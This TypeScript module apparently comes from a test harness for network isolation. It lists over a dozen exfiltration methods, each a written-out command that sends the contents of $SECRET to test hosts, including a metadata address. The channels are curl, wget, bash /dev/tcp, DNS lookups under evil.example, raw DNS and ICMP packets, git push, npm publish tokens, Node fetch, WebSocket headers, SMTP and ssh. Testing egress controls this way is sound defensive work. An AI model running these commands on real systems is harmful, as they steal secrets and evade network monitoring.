import { loopback, metadata, otherHost, thisHost } from "../stage/addresses.ts";

/** A way to get a text out. Every command tries all hosts and takes a second for each at most. */
export interface Method {
  /** For the shell; the text to get out is in $SECRET. */
  command: string;
  /** Part of the name of a sink that it reaches where nothing stops it. */
  reaches: string;
}

const hosts = [otherHost, thisHost, metadata, loopback].join(" ");
const eachHost = (command: string) => `for host in ${hosts}; do ${command}; done`;
const python = (code: string) =>
  `/usr/bin/python3 - <<'PYTHON'\nimport os, socket\nsecret = os.environ['SECRET'].encode()\nfor host in '${hosts}'.split():\n    try:\n${code
    .split("\n")
    .map((line) => `        ${line}`)
    .join("\n")}\n    except OSError as error: print(error)\nPYTHON`;

export const methods: Record<string, Method> = {
  curl: {
    command: eachHost(
      `curl -s -m 1 --noproxy '*' "http://$host/?d=$SECRET"; curl -s -m 1 -d "$SECRET" "http://$host/"`,
    ),
    reaches: "tcp 80",
  },
  wget: {
    command: eachHost(`wget -q -T 1 -t 1 -O - --no-proxy "http://$host/?d=$SECRET"`),
    reaches: "tcp 80",
  },
  "bash's /dev/tcp": {
    command: eachHost(
      `timeout 1 bash -c "echo $SECRET > /dev/tcp/$host/25"; echo "$SECRET" > /dev/udp/$host/9999`,
    ),
    reaches: "tcp 25",
  },
  "the name server": {
    command: `getent hosts "$SECRET.evil.example"; getent ahosts "$SECRET.other.example"; true`,
    reaches: "dns",
  },
  "a name server of its own choice": {
    command:
      python(`query = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0' + bytes([len(secret[:60])]) + secret[:60] + b'\\x04evil\\0\\0\\x01\\0\\x01'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (host, 53))`),
    reaches: "dns",
  },
  ping: {
    command: python(
      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0' + secret, (host, 0))`,
    ),
    reaches: "icmp",
  },
  "git push": {
    command: `cd "$(mktemp -d)" && git init -q && git -c user.name=A -c user.email=a@example.test commit -q --allow-empty -m "$SECRET"
${eachHost(`timeout 3 git -c http.lowSpeedLimit=1 -c http.lowSpeedTime=1 push "http://$host/$SECRET" HEAD:refs/heads/x </dev/null; timeout 2 git push "ssh://x@$host/$SECRET" HEAD:refs/heads/x </dev/null`)}; true`,
    reaches: "tcp 80",
  },
  "npm publish": {
    command: `cd "$(mktemp -d)" && echo '{"name":"evil","version":"1.0.0"}' > package.json
${eachHost(`timeout 15 npm publish --registry "http://$host/" "--//$host/:_authToken=$SECRET" --fetch-retries 0 --fetch-timeout 1000 </dev/null`)}; true`,
    reaches: "tcp 80",
  },
  "a socket of Python": {
    command: python("s = socket.create_connection((host, 8080), 1); s.sendall(secret)"),
    reaches: "tcp 8080",
  },
  "fetch of Node": {
    command: eachHost(
      `timeout 5 node -e 'fetch("http://" + process.argv[1] + "/?d=" + process.env.SECRET).catch(() => {})' $host`,
    ),
    reaches: "tcp 80",
  },
  "a WebSocket": {
    command: eachHost(
      `curl -s -m 1 --noproxy '*' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H "Sec-WebSocket-Key: $SECRET" "http://$host:8080/"`,
    ),
    reaches: "tcp 8080",
  },
  mail: {
    command: python(
      `s = socket.create_connection((host, 25), 1); s.sendall(b'HELO x\\r\\nMAIL FROM:<' + secret + b'@evil.example>\\r\\n')`,
    ),
    reaches: "tcp 25",
  },
  ssh: {
    command: eachHost(
      `timeout 2 ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 "$SECRET@$host" true </dev/null`,
    ),
    reaches: "tcp 22",
  },
};
